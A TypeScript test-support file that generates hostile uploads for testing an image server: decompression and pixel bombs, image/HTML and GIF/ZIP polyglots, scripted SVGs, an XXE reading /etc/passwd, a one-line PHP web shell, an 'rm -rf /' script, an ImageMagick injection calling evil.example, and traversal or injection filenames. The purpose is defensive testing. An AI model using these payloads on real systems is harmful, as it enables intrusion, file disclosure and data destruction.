import { deflateSync, gzipSync } from "node:zlib";
import sharp from "sharp";
import {
  animatedGif,
  brokenExif,
  damagedPictures,
  interlacedPng,
  isoMedia,
  noise,
  notImages,
  otherPictures,
  paddedTo,
  phonePhoto,
  pixelBomb,
  pngChunk,
  smallPicture,
} from "#tests/support/hostile-pictures.ts";

/** Bytes that stand in the hostile parts of files: none may be found in anything that is stored. */
export const HOSTILE_BYTES = "<script>hostileBytes()</script>";

export type HostileFile = {
  what: string;
  name: string;
  type: string;
  bytes: Buffer;
  /** Nothing of it may be kept; otherwise it may be taken as a picture that is made anew. */
  isRefused: boolean;
  /** Costs seconds to make. */
  isLarge?: true;
};

const PNG = Buffer.from("\x89PNG\r\n\x1a\n", "latin1");
const END = pngChunk("IEND", Buffer.alloc(0));
const MB = 1024 * 1024;

/** Files that nobody sends by mistake: bombs, files of two kinds, hidden words, broken ones, and other kinds under a picture's name. */
export async function hostileFiles(withLarge: boolean): Promise<HostileFile[]> {
  const files: HostileFile[] = [];
  const add = (isRefused: boolean, entries: Record<string, Buffer>, name = "a.jpg", type = "image/jpeg") => {
    for (const [what, bytes] of Object.entries(entries)) files.push({ what, name, type, bytes, isRefused });
  };
  const [jpeg, png, gif, webp] = await Promise.all(
    (["jpeg", "png", "gif", "webp"] as const).map((format, seed) => smallPicture(format, seed + 20)),
  );
  if (!jpeg || !png || !gif || !webp) throw new Error("No pictures");
  add(true, { ...notImages(), ...(await otherPictures()), ...(await damagedPictures()) });
  add(true, otherKinds());
  add(false, twoKinds(jpeg, png, gif, webp));
  add(false, await hiddenWords(jpeg, png, webp));
  add(true, await bombs(), "a.png", "image/png");
  add(false, await manyParts(gif), "a.png", "image/png");
  files.push(...names(png));
  if (withLarge)
    for (const [what, bytes] of Object.entries(await largeOnes()))
      files.push({ what, name: "a.png", type: "image/png", bytes, isRefused: false, isLarge: true });
  return files;
}

/** What is no picture of ours, whatever it is called. */
function otherKinds(): Record<string, Buffer> {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="a()"><script>${HOSTILE_BYTES}</script></svg>`;
  const entities = Array.from({ length: 12 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join(
    "",
  );
  return {
    "an SVG with a script": Buffer.from(svg),
    "an SVGZ": gzipSync(svg),
    "an XML bomb": Buffer.from(
      `<?xml version="1.0"?><!DOCTYPE s [<!ENTITY l0 "lol">${entities}]><svg>&l12;</svg>`,
    ),
    "an SVG that reads a file": Buffer.from(
      `<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>`,
    ),
    "an SVG in UTF-16": Buffer.from(`\ufeff${svg}`, "utf16le"),
    "an HTML page": Buffer.from(`<!doctype html>${HOSTILE_BYTES}`),
    "a web archive (MHTML)": Buffer.from(
      `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n${HOSTILE_BYTES}`,
    ),
    "a script": Buffer.from("#!/bin/sh\nrm -rf /\n"),
    "a PHP file": Buffer.from("<?php system($_GET['c']); ?>"),
    JavaScript: Buffer.from("GIF89 = 1; hostileBytes();"),
    "the EICAR test file": Buffer.from(
      "X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
    ),
    "a ZIP": Buffer.from("PK\x03\x04\x14\0\0\0\0\0", "latin1"),
    "a Windows program": Buffer.from("MZ\x90\0\x03\0\0\0", "latin1"),
    "a Java class": Buffer.from("\xca\xfe\xba\xbe\0\0\0\x34", "latin1"),
    WebAssembly: Buffer.from("\0asm\x01\0\0\0", "latin1"),
    "a font": Buffer.from("wOF2\0\x01\0\0", "latin1"),
    "a TrueType font": Buffer.from("\0\x01\0\0\0\x0c\0\x80", "latin1"),
    "an MP4 film": isoMedia("mp42"),
    "a WebM film": Buffer.from("\x1a\x45\xdf\xa3\x01\0\0\0", "latin1"),
    "a Flash film": Buffer.from("CWS\x09\0\0\0\0", "latin1"),
    "an AVIF sequence": isoMedia("avis"),
    "a HEIC with nothing behind": Buffer.concat([isoMedia("heix"), noise(2000)]),
    "a Postscript file": Buffer.from("%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 1 1\n"),
    "an ImageMagick script": Buffer.from(
      "push graphic-context\nfill 'url(https://evil.example/x.jpg\"|ls \"-la)'\npop graphic-context",
    ),
    "a netpbm picture": Buffer.from("P6 30000 30000 255\n"),
    "a TIFF bomb": tiffOf(60_000, 60_000),
    "a BMP bomb": bmpOf(60_000, 60_000),
    "an icon bomb": Buffer.concat([Buffer.from("\0\0\x01\0\xff\xff", "latin1"), noise(4000)]),
    "a gzip bomb": gzipSync(Buffer.alloc(50 * MB), { level: 9 }),
    "11 MB of nothing": Buffer.alloc(10 * MB + 10),
  };
}

/** Pictures that are something else as well; what is made of them anew is not. */
function twoKinds(jpeg: Buffer, png: Buffer, gif: Buffer, webp: Buffer): Record<string, Buffer> {
  const html = Buffer.from(`<!doctype html>${HOSTILE_BYTES}`);
  const zip = Buffer.concat([
    Buffer.from("PK\x03\x04", "latin1"),
    html,
    Buffer.from(`PK\x05\x06${"\0".repeat(18)}`, "latin1"),
  ]);
  return {
    "a JPEG and a page behind it": Buffer.concat([jpeg, html]),
    "a PNG and a page behind it": Buffer.concat([png, html]),
    "a GIF and an archive behind it (GIFAR)": Buffer.concat([gif, zip]),
    "a WebP and an archive behind it": Buffer.concat([webp, zip]),
    "a JPEG with a program in a comment": jpegWith(jpeg, 0xfe, `<?php system('x') ?>${HOSTILE_BYTES}`),
    "a JPEG that is a script (polyglot by its first segment)": jpegWith(
      jpeg,
      0xe0,
      `/*${"a".repeat(0x2f2a - 10)}*/=1;${HOSTILE_BYTES}`,
    ),
    "a PNG with PHP in its text": pngWith(png, "tEXt", `Comment\0<?php system('x') ?>${HOSTILE_BYTES}`),
    "a PNG with a page in an unknown chunk": pngWith(png, "htMl", html),
    "a GIF with a script in its comment": Buffer.concat([
      gif.subarray(0, gif.length - 1),
      Buffer.from([0x21, 0xfe, HOSTILE_BYTES.length]),
      Buffer.from(`${HOSTILE_BYTES}\0;`),
    ]),
    "two pictures in one": Buffer.concat([jpeg, png, gif]),
  };
}

/** Words in places that programs keep and nobody looks at. */
async function hiddenWords(jpeg: Buffer, png: Buffer, webp: Buffer): Promise<Record<string, Buffer>> {
  const chunk = (name: string, data: string) => {
    const padded = Buffer.from(data.length % 2 ? `${data} ` : data);
    const head = Buffer.alloc(8);
    head.write(name, "latin1");
    head.writeUInt32LE(padded.length, 4);
    return Buffer.concat([head, padded]);
  };
  const withChunks = Buffer.concat([webp, chunk("EXIF", HOSTILE_BYTES), chunk("XMP ", HOSTILE_BYTES)]);
  withChunks.writeUInt32LE(withChunks.length - 8, 4);
  return {
    "a phone's photo with its place": await phonePhoto({ width: 900, height: 600, orientation: 6 }),
    "a photo with a broken EXIF": await brokenExif(),
    "EXIF that is a page": jpegWith(jpeg, 0xe1, `Exif\0\0${HOSTILE_BYTES}`),
    "EXIF of 60 KB": jpegWith(jpeg, 0xe1, `Exif\0\0MM\0*${HOSTILE_BYTES.repeat(1_900)}`),
    "XMP with a script": jpegWith(jpeg, 0xe1, `http://ns.adobe.com/xap/1.0/\0<x>${HOSTILE_BYTES}</x>`),
    "a colour profile of junk": jpegWith(jpeg, 0xe2, `ICC_PROFILE\0\x01\x01${HOSTILE_BYTES}`),
    "8 MB of comments": jpegWith(
      jpeg,
      0xfe,
      ...Array.from({ length: 130 }, () => HOSTILE_BYTES.repeat(2_000)),
    ),
    "a PNG with a colour profile of junk": pngWith(
      png,
      "iCCP",
      Buffer.concat([Buffer.from("x\0\0"), deflateSync(HOSTILE_BYTES)]),
    ),
    "a PNG with EXIF": pngWith(png, "eXIf", `MM\0*${HOSTILE_BYTES}`),
    "a WebP with EXIF and XMP": withChunks,
    "a picture padded to 10 MB": await paddedTo(10 * MB),
    "a picture padded past 10 MB": await paddedTo(10 * MB + 1),
  };
}

/** Small files of more pixels, or words, than a server has memory for. */
async function bombs(): Promise<Record<string, Buffer>> {
  const gif = Buffer.concat([
    Buffer.from("GIF89a\xff\xff\xff\xff\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\xff\xff\xff\xff\0\x02", "latin1"),
    noise(3000),
    Buffer.from("\0;"),
  ]);
  const jpeg = Buffer.from(await smallPicture("jpeg", 31));
  const frame = jpeg.indexOf(Buffer.from([0xff, 0xc0]));
  jpeg.writeUInt16BE(65_500, frame + 5);
  jpeg.writeUInt16BE(65_500, frame + 7);
  const webp = Buffer.from(
    "RIFF\x1e\0\0\0WEBPVP8X\x0a\0\0\0\x10\0\0\0\xff\xff\xff\xff\xff\xff\0\0\0\0",
    "latin1",
  );
  return {
    "a PNG of 16 000²": pixelBomb(16_000, 16_000),
    "a PNG of 30 000²": pixelBomb(30_000, 30_000),
    "a PNG of 60 000 × 3 000": pixelBomb(60_000, 3_000),
    "an interlaced PNG of 16 000²": interlacedPng(16_000, 1, 0, Buffer.alloc(100)),
    "a PNG that says 2 147 483 647²": pngOf(0x7fffffff, 0x7fffffff, 8, 6, Buffer.alloc(1000)),
    "a GIF that says 65 535²": gif,
    "a JPEG that says 65 500²": jpeg,
    "a WebP that says 16 777 216²": webp,
    "a PNG without all of its pixels": pngOf(6_000, 6_000, 8, 2, deflateSync(Buffer.alloc(1000))),
    "an interlaced PNG without all of its pixels": interlacedPng(
      6_000,
      8,
      2,
      deflateSync(Buffer.alloc(1000)),
    ),
    "a PNG with a wrong check sum": Buffer.from(
      pixelBomb(64, 64).map((byte, at) => (at === 50 ? byte ^ 0xff : byte)),
    ),
  };
}

/** Pictures of so many parts that counting them costs time, or of words that grow. */
async function manyParts(gif: Buffer): Promise<Record<string, Buffer>> {
  const pixel = Buffer.from("!\xf9\x04\0\x01\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0", "latin1");
  const screen = Buffer.from("GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff", "latin1");
  const small = await smallPicture("png", 33);
  const grown = (bytes: number) => deflateSync(Buffer.alloc(bytes, "a"), { level: 9 });
  return {
    "a GIF of 50 000 frames": Buffer.concat([
      screen,
      Buffer.alloc(pixel.length * 50_000, pixel),
      Buffer.from(";"),
    ]),
    "a GIF of two frames": await animatedGif(),
    "a GIF that repeats itself": Buffer.concat([gif.subarray(0, -1), gif.subarray(13)]),
    "an APNG of 5 000 frames": animatedPng(small, 5_000),
    "a PNG whose text grows to 80 MB": pngWith(
      small,
      "zTXt",
      Buffer.concat([Buffer.from("a\0\0"), grown(80 * MB)]),
    ),
    "a PNG whose colour profile grows to 80 MB": pngWith(
      small,
      "iCCP",
      Buffer.concat([Buffer.from("a\0\0"), grown(80 * MB)]),
    ),
    "a PNG of 20 000 texts": pngWith(
      small,
      "tEXt",
      ...Array.from({ length: 20_000 }, (_, nth) => `k${nth}\0v`),
    ),
    "a PNG with pixels behind its last": Buffer.concat([
      small.subarray(0, -12),
      pngChunk("IDAT", grown(20 * MB)),
      END,
    ]),
  };
}

/** Just below the limit of pixels, in the ways that need most memory or time. */
async function largeOnes(): Promise<Record<string, Buffer>> {
  const side = 7_000;
  const flat = sharp({
    create: { width: side, height: side, channels: 3, background: "#336699" },
    limitInputPixels: false,
  });
  const progressive = await flat.clone().jpeg({ progressive: true, quality: 60 }).toBuffer();
  return {
    "a PNG of 49 megapixels": pixelBomb(side, side),
    "a PNG of 49 megapixels, 16 bits, transparent": pngOf(
      side,
      side,
      16,
      6,
      deflateSync(Buffer.alloc(side * (1 + side * 8))),
    ),
    "an interlaced PNG of 49 megapixels": interlacedPng(
      side,
      8,
      2,
      deflateSync(Buffer.alloc(interlacedBytes(side, 24))),
    ),
    "an interlaced PNG of 49 megapixels, 16 bits, transparent": interlacedPng(
      side,
      16,
      6,
      deflateSync(Buffer.alloc(interlacedBytes(side, 64))),
    ),
    "a progressive JPEG of 49 megapixels": progressive,
    "a progressive JPEG of 49 megapixels in 90 scans": repeatLastScan(progressive, 80),
    "a progressive JPEG of 49 megapixels in 2 000 scans": repeatLastScan(progressive, 2_000),
    "a JPEG of 49 megapixels in CMYK": await flat
      .clone()
      .toColourspace("cmyk")
      .jpeg({ quality: 50 })
      .toBuffer(),
    "a WebP of 49 megapixels": await flat.clone().webp({ lossless: true, effort: 0 }).toBuffer(),
    "a GIF of 49 megapixels": await flat.clone().gif({ effort: 1 }).toBuffer(),
    "a photo of 12 megapixels": await phonePhoto(),
    "a PNG of 1 × 49 000 000": pngOf(1, 49_000_000, 1, 0, deflateSync(Buffer.alloc(98_000_000))),
  };
}

/** A good picture under names that lead somewhere, cut something off or mean something. */
function names(png: Buffer): HostileFile[] {
  const list = [
    ...[
      "../../../../tmp/hostile.png",
      "..\\..\\hostile.png",
      "/etc/cron.d/hostile",
      "a\0.png",
      "a.png\0.html",
      "a\r\nX-Evil: yes.png",
    ],
    ...[
      'a".png',
      "a'; drop table pictures;--.png",
      `${"a".repeat(1000)}.png`,
      "photo\u202egnp.exe",
      "CON.png",
      "NUL",
      "a.png.",
      " ",
      ".",
    ],
    ...[
      "a.html",
      "a.svg",
      "a.php.png",
      "<img src=x onerror=hostileBytes()>.png",
      "%2e%2e%2fa.png",
      "file:///etc/passwd",
      "\ud83d\ude00.png",
    ],
  ];
  const types = [
    "image/png",
    "text/html",
    "image/svg+xml",
    "application/x-httpd-php",
    "",
    "image/png; charset=utf-7",
    "../x",
  ];
  return list.map((name, nth) => ({
    ...{ what: `a picture called ${JSON.stringify(name.slice(0, 40))}`, name, bytes: png, isRefused: false },
    type: types[nth % types.length] as string,
  }));
}

/** Segments before the others of a JPEG. */
function jpegWith(jpeg: Buffer, marker: number, ...texts: string[]): Buffer {
  const segments = texts.map((text) => {
    const data = Buffer.from(text, "latin1").subarray(0, 65_533);
    const head = Buffer.from([0xff, marker, 0, 0]);
    head.writeUInt16BE(data.length + 2, 2);
    return Buffer.concat([head, data]);
  });
  return Buffer.concat([jpeg.subarray(0, 2), ...segments, jpeg.subarray(2)]);
}

/** Chunks behind the first of a PNG. */
function pngWith(png: Buffer, type: string, ...data: (string | Buffer)[]): Buffer {
  const chunks = data.map((one) =>
    pngChunk(type, typeof one === "string" ? Buffer.from(one, "latin1") : one),
  );
  return Buffer.concat([png.subarray(0, 33), ...chunks, png.subarray(33)]);
}

function pngOf(width: number, height: number, bits: number, kind: number, pixels: Buffer): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([bits, kind, 0, 0, 0], 8);
  return Buffer.concat([PNG, pngChunk("IHDR", header), pngChunk("IDAT", pixels), END]);
}

/** How many bytes the seven passes of an interlaced square have. */
function interlacedBytes(side: number, bitsOfPixel: number): number {
  const passes = [
    [0, 8, 0, 8],
    [4, 8, 0, 8],
    [0, 4, 4, 8],
    [2, 4, 0, 4],
    [0, 2, 2, 4],
    [1, 2, 0, 2],
    [0, 1, 1, 2],
  ];
  return passes.reduce((sum, [x = 0, stepX = 1, y = 0, stepY = 1]) => {
    const [width, height] = [Math.ceil((side - x) / stepX), Math.ceil((side - y) / stepY)];
    return sum + height * (1 + Math.ceil((width * bitsOfPixel) / 8));
  }, 0);
}

function animatedPng(png: Buffer, frames: number): Buffer {
  const control = Buffer.alloc(8);
  control.writeUInt32BE(frames, 0);
  const [width, height] = [png.readUInt32BE(16), png.readUInt32BE(20)];
  const parts: Buffer[] = [];
  for (let nth = 0; nth < frames; nth += 1) {
    const frame = Buffer.alloc(26);
    frame.writeUInt32BE(nth * 2, 0);
    frame.writeUInt32BE(width, 4);
    frame.writeUInt32BE(height, 8);
    const data = Buffer.alloc(24);
    data.writeUInt32BE(nth * 2 + 1, 0);
    parts.push(pngChunk("fcTL", frame), pngChunk("fdAT", data));
  }
  return Buffer.concat([
    png.subarray(0, 33),
    pngChunk("acTL", control),
    png.subarray(33, -12),
    ...parts,
    END,
  ]);
}

function repeatLastScan(jpeg: Buffer, times: number): Buffer {
  const scan = jpeg.subarray(jpeg.lastIndexOf(Buffer.from([0xff, 0xda])), -2);
  const repeats = Math.min(times, Math.floor((9.9 * MB - jpeg.length) / scan.length));
  return Buffer.concat([
    jpeg.subarray(0, -2),
    ...Array.from({ length: repeats }, () => scan),
    jpeg.subarray(-2),
  ]);
}

function tiffOf(width: number, height: number): Buffer {
  const tags = [
    [256, width],
    [257, height],
    [258, 8],
    [262, 1],
    [273, 8],
    [278, height],
    [279, 1],
  ];
  const directory = Buffer.alloc(2 + tags.length * 12 + 4);
  directory.writeUInt16LE(tags.length, 0);
  for (const [nth, [tag = 0, value = 0]] of tags.entries()) {
    directory.writeUInt16LE(tag, 2 + nth * 12);
    directory.writeUInt16LE(4, 4 + nth * 12);
    directory.writeUInt32LE(1, 6 + nth * 12);
    directory.writeUInt32LE(value, 10 + nth * 12);
  }
  return Buffer.concat([Buffer.from("II*\0\x08\0\0\0", "latin1"), directory]);
}

function bmpOf(width: number, height: number): Buffer {
  const bmp = Buffer.alloc(60);
  bmp.write("BM", "latin1");
  bmp.writeUInt32LE(54, 10);
  bmp.writeUInt32LE(40, 14);
  bmp.writeUInt32LE(width, 18);
  bmp.writeUInt32LE(height, 22);
  bmp.writeUInt32LE(0x00180001, 26);
  return bmp;
}
